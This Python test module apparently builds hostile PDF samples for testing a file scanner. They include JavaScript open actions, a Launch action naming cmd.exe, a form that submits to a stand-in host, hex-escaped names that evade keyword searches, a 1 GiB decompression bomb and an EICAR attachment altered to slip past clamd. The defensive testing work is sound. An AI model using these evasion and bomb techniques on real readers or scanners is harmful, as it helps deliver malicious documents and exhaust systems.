"""PDF files that do more than show pages, each made by code and opened by the usual readers."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

from tests.evidence.hostile.others import EICAR

SCRIPT = "app.alert('halo')"


def made(change: Callable[[Pdf], object] = lambda pdf: None, **options) -> bytes:
    """A PDF of one page, changed; `options` say how it is written."""
    out = io.BytesIO()
    with Pdf.new() as pdf:
        pdf.add_blank_page(page_size=(200, 200))
        change(pdf)
        pdf.save(out, **options)
    return out.getvalue()


def javascript() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pikepdf.String(SCRIPT))


def launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))


def named_script(pdf: Pdf) -> None:
    tree = Dictionary(Names=Array([pikepdf.String("mulai"), pdf.make_indirect(javascript())]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def opening(action: Dictionary) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = action

    return change


def opening_at_page(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])


def turning_to_page(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))


def page_events(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=javascript(), C=javascript())


def annotated(**entries) -> Callable[[Pdf], None]:
    """One annotation on the page; its entries are written right inside it."""

    def change(pdf: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return change


def linking(pdf: Pdf) -> None:
    """What half of all documents have: an address to click on."""
    annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=pikepdf.String("https://jdih.contoh.go.id")))(pdf)


def carrying(content: bytes, name: str) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        pdf.attachments[name] = content

    return change


def form_xfa(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def sending_form(pdf: Pdf) -> None:
    button = Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://jahat.example"))
    annotated(Subtype=Name.Widget, FT=Name.Btn, T=pikepdf.String("kirim"), A=button)(pdf)
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.pages[0].Annots[0]]))


def chained(pdf: Pdf) -> None:
    """A harmless action followed by one that is not."""
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([Dictionary(S=Name.GoTo, Next=javascript())])
    )


def in_object_stream() -> bytes:
    """The script lies in a compressed object stream, so that its words are nowhere in the bytes."""
    raw = made(named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in raw
    return raw


def spelt_otherwise() -> bytes:
    """Names may be written with escapes that simple searches do not know."""
    raw = made(opening(javascript()), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return raw.replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/JS", b"/#4A#53")


def unreferenced() -> bytes:
    """A script that no page leads to, as older revisions of a file have it."""
    raw = made(opening(javascript()), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return raw.replace(b"/OpenAction", b"/OpenNoting")


def locked_for_changes_with_script() -> bytes:
    """Opens without a password, yet every string and stream is encrypted."""
    return made(named_script, encryption=pikepdf.Encryption(owner="pemilik", user=""))


def deeply_nested() -> bytes:
    """Dictionaries within dictionaries, deeper than any program writes them."""
    raw = made(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return raw.replace(b"/Type /Catalog", b"/X " + b"<</X " * 300 + b"1" + b">>" * 300 + b" /Type /Catalog")


def object_stream_bomb() -> bytes:
    """An object stream that unpacks to 1 GiB; the table of objects sends every reader there."""
    packer = zlib.compressobj(1)
    block = bytes(2**20)
    packed = b"".join(packer.compress(block) for _ in range(1024)) + packer.flush()
    return with_object_stream(zlib.compress(packed, 9), b"[/FlateDecode/FlateDecode]")


def sealed_object_stream() -> bytes:
    """An object stream that does not unpack; who knows what another program makes of it."""
    return with_object_stream(b"bukan zlib", b"/FlateDecode")


def with_object_stream(packed: bytes, filters: bytes) -> bytes:
    """Written by hand: one page, and a tree of names inside object stream 4."""
    stream = b"<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>stream\n%s\nendstream" % (filters, len(packed), packed)
    parts = [
        b"<</Type/Catalog/Pages 2 0 R/Names 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>",
        stream,
    ]
    raw, table = b"%PDF-1.7\n", struct.pack(">BIB", 0, 0, 0)
    for number, part in enumerate(parts, 1):
        table += struct.pack(">BIB", 1, len(raw), 0)
        raw += b"%d 0 obj%s\nendobj\n" % (number, part)
    table += struct.pack(">BIB", 2, 4, 0) + struct.pack(">BIB", 1, len(raw), 0)
    xref = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream" % (len(table), table)
    return raw + b"6 0 obj%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref, len(raw))


def eicar_attached() -> bytes:
    """Without the attachment's own checksum, beside which clamd 1.4 does not unpack it."""

    def change(pdf: Pdf) -> None:
        carrying(EICAR, "faktur.com")(pdf)
        for part in pdf.objects:
            if isinstance(part, pikepdf.Stream) and "/Params" in part:
                del part.Params

    return made(change)
